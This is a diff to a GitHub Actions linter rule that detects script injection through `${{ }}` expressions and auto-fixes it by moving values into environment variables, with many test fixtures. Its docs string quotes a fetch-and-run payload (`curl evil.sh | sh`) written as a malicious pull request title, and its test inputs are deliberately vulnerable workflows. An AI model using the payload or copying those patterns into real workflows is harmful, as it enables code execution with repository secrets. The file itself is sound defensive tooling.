@@ -10,7 +10,7 @@ const rule: Rule<WorkflowModel> = {
   compat: { actionlint: 'expression' },
   docs: {
     summary: 'A `${{ }}` in a `run:` script (or an `actions/github-script` script) expands text an outsider controls: issue and pull request titles and bodies, comments, branch names, commit messages.',
-    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead.',
+    why: 'GitHub pastes the value into the script before it runs, so a pull request titled `"; curl evil.sh | sh; "` runs that command with your token (script injection). Pass the value through `env:` and use the shell variable instead. The quick fix does that with the reference the place needs (`"$NAME"`, `$NAME` inside double quotes or an unquoted here-document, `$env:NAME` in PowerShell, `%NAME%` in cmd, `process.env.NAME` in github-script); it is not offered where no variable reads the same text (a quoted here-document, a PowerShell literal here-string, a regular expression literal), where the shell is not the same on every runner of a matrix, or where the step is shared through a YAML alias.',
     bad: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ github.event.issue.title }}"\n',
     good: 'on: issues\njobs:\n  triage:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "$TITLE"\n        env:\n          TITLE: ${{ github.event.issue.title }}\n',
   },
@@ -68,6 +68,70 @@ const rule: Rule<WorkflowModel> = {
       expect: [{ line: 6, col: 32 }, { line: 8, col: 23 }, { line: 11, col: 25 }],
       fixed:
         "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: Write-Output $env:ISSUE_TITLE\n        env: { ISSUE_TITLE: '${{ github.event.issue.title }}' }\n      - run: echo %ISSUE_TITLE%\n        shell: cmd\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n      - run: print('${{ github.event.issue.title }}')\n        shell: python\n",
+    },
+    {
+      name: 'fix: nothing expands in a quoted here-document (no fix); an unquoted one gets the bare variable',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<'EOF'\n          title: ${{ github.event.issue.title }}\n          EOF\n      - run: |\n          cat <<\"EOF\" > a.txt; cat <<\\END\n          ${{ github.event.issue.title }}\n          EOF\n          ${{ github.event.issue.title }}\n          END\n      - run: |\n          cat <<EOF > out.txt; cat <<-'X'\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          ${{ github.event.issue.title }}\n          X\n          echo '${{ github.event.issue.title }}'\n",
+      expect: [{ line: 8 }, { line: 12 }, { line: 14 }, { line: 18 }, { line: 18 }, { line: 18 }, { line: 20 }, { line: 22 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<'EOF'\n          title: ${{ github.event.issue.title }}\n          EOF\n      - run: |\n          cat <<\"EOF\" > a.txt; cat <<\\END\n          ${{ github.event.issue.title }}\n          EOF\n          ${{ github.event.issue.title }}\n          END\n      - run: |\n          cat <<EOF > out.txt; cat <<-'X'\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          ${{ github.event.issue.title }}\n          X\n          echo '${{ github.event.issue.title }}'\n",
+    },
+    {
+      name: 'fix: unquoted here-documents, command substitutions and quotes each get the reference that keeps the text',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > out.txt\n          title: \"${{ github.event.issue.title }}\" (${{ github.event.issue.title }}s) $(echo ${{ github.event.issue.title }})\n          EOF\n          echo \"$(printf '%s' \"${{ github.event.issue.title }}\")\" 'a ${{ github.event.issue.title }} b' \"x${{ github.event.issue.title }}y\"\n          t=${{ github.event.issue.title }}; echo \"$t\" # ${{ github.event.issue.title }}\n          echo '${{ github.event.issue.title }}'\n",
+      expect: [{ line: 8 }, { line: 8 }, { line: 8 }, { line: 10 }, { line: 10 }, { line: 10 }, { line: 11 }, { line: 11 }, { line: 12 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          cat <<EOF > out.txt\n          title: \"$ISSUE_TITLE\" (${ISSUE_TITLE}s) $(echo \"$ISSUE_TITLE\")\n          EOF\n          echo \"$(printf '%s' \"$ISSUE_TITLE\")\" 'a '\"$ISSUE_TITLE\"' b' \"x${ISSUE_TITLE}y\"\n          t=\"$ISSUE_TITLE\"; echo \"$t\" # $ISSUE_TITLE\n          echo \"$ISSUE_TITLE\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n",
+    },
+    {
+      name: 'fix: none where the quoted variable would mean something else (regex match, escaped, $"…", backquotes, ${…})',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: if [[ \"$t\" =~ ${{ github.event.issue.title }} ]]; then echo; fi\n      - run: echo \\${{ github.event.issue.title }}\n      - run: echo \"\\${{ github.event.issue.title }}\"\n      - run: echo `echo ${{ github.event.issue.title }}`\n      - run: echo \"${X:-${{ github.event.issue.title }}}\"\n      - run: echo $'${{ github.event.issue.title }}'\n",
+      expect: [{ line: 6 }, { line: 7 }, { line: 8 }, { line: 9 }, { line: 10 }, { line: 11 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: if [[ \"$t\" =~ ${{ github.event.issue.title }} ]]; then echo; fi\n      - run: echo \\${{ github.event.issue.title }}\n      - run: echo \"\\${{ github.event.issue.title }}\"\n      - run: echo `echo ${{ github.event.issue.title }}`\n      - run: echo \"${X:-${{ github.event.issue.title }}}\"\n      - run: echo $'${{ github.event.issue.title }}'\n",
+    },
+    {
+      name: 'fix: the reference must suit every runner of a matrix; unknown runners get no fix',
+      input:
+        "on: issues\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n      - run: echo \"${{ github.event.issue.body }}\"\n        shell: bash\n  b:\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, macos-14]\n        include:\n          - os: windows-2022\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  c:\n    strategy:\n      matrix:\n        os: [windows-2022, windows-2025]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: Write-Output \"${{ github.event.issue.title }}\"\n  d:\n    runs-on: self-hosted\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  e:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  f:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
+      expect: [{ line: 9 }, { line: 10 }, { line: 20 }, { line: 27 }, { line: 31 }, { line: 35 }, { line: 39 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    strategy:\n      matrix:\n        os: [ubuntu-latest, windows-latest]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n      - run: echo \"$ISSUE_BODY\"\n        shell: bash\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n  b:\n    strategy:\n      matrix:\n        os: [ubuntu-22.04, macos-14]\n        include:\n          - os: windows-2022\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  c:\n    strategy:\n      matrix:\n        os: [windows-2022, windows-2025]\n    runs-on: ${{ matrix.os }}\n    steps:\n      - run: Write-Output $env:ISSUE_TITLE\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n  d:\n    runs-on: self-hosted\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n  e:\n    runs-on: [self-hosted, linux, x64]\n    steps:\n      - run: echo \"$ISSUE_TITLE\"\n        env:\n          ISSUE_TITLE: ${{ github.event.issue.title }}\n  f:\n    runs-on: ${{ inputs.runner }}\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n",
+    },
+    {
+      name: 'fix: never edits a map or script another place shares through a YAML alias',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n        env: &e\n          A: 1\n      - run: echo \"$A\"\n        env: *e\n      - run: &r echo \"${{ github.event.issue.body }}\"\n      - run: *r\n        env:\n          B: 2\n",
+      expect: [{ line: 6 }, { line: 11 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.issue.title }}\"\n        env: &e\n          A: 1\n      - run: echo \"$A\"\n        env: *e\n      - run: &r echo \"${{ github.event.issue.body }}\"\n      - run: *r\n        env:\n          B: 2\n",
+    },
+    {
+      name: 'fix: other shells (custom bash, node, expression) and names the script already uses',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ISSUE_TITLE=x; echo \"$ISSUE_TITLE ${{ github.event.issue.title }}\"\n        shell: /usr/bin/bash -e {0}\n      - run: console.log('${{ github.event.issue.title }}')\n        shell: node {0}\n      - run: echo \"${{ github.event.issue.title }}\"\n        shell: ${{ matrix.shell }}\n",
+      expect: [{ line: 6 }, { line: 8 }, { line: 10 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ISSUE_TITLE=x; echo \"$ISSUE_TITLE $ISSUE_TITLE_2\"\n        shell: /usr/bin/bash -e {0}\n        env:\n          ISSUE_TITLE_2: ${{ github.event.issue.title }}\n      - run: console.log('${{ github.event.issue.title }}')\n        shell: node {0}\n      - run: echo \"${{ github.event.issue.title }}\"\n        shell: ${{ matrix.shell }}\n",
+    },
+    {
+      name: 'fix: PowerShell literal here-strings, single quotes and member access keep the expression',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $a = @'\n          it's ${{ github.event.issue.title }}\n          '@\n          $b = @\"\n          it's \"${{ github.event.issue.body }}\" ${{ github.event.issue.body }}x\n          \"@\n      - run: Write-Output 'a ${{ github.event.issue.title }}'\n      - run: Write-Output ${{ github.event.issue.title }}.txt\n",
+      expect: [{ line: 8 }, { line: 11 }, { line: 11 }, { line: 13 }, { line: 14 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: windows-latest\n    steps:\n      - run: |\n          $a = @'\n          it's ${{ github.event.issue.title }}\n          '@\n          $b = @\"\n          it's \"$env:ISSUE_BODY\" ${env:ISSUE_BODY}x\n          \"@\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n      - run: Write-Output 'a ${{ github.event.issue.title }}'\n      - run: Write-Output ${{ github.event.issue.title }}.txt\n",
+    },
+    {
+      name: 'fix: github-script regular expressions, tagged templates and string operands',
+      input:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            if (/${{ github.event.issue.title }}/.test(x)) return;\n            const t = String.raw`${{ github.event.issue.title }}`;\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const n = 'a${{ github.event.issue.body }}b'.length;\n            const o = JSON.parse(`${{ github.event.issue.body }}`) / 2;\n",
+      expect: [{ line: 9 }, { line: 10 }, { line: 14 }, { line: 15 }],
+      fixed:
+        "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            if (/${{ github.event.issue.title }}/.test(x)) return;\n            const t = String.raw`${{ github.event.issue.title }}`;\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const n = ('a' + process.env.ISSUE_BODY + 'b').length;\n            const o = JSON.parse(`${process.env.ISSUE_BODY}`) / 2;\n        env:\n          ISSUE_BODY: ${{ github.event.issue.body }}\n",
     },
   ],
 };
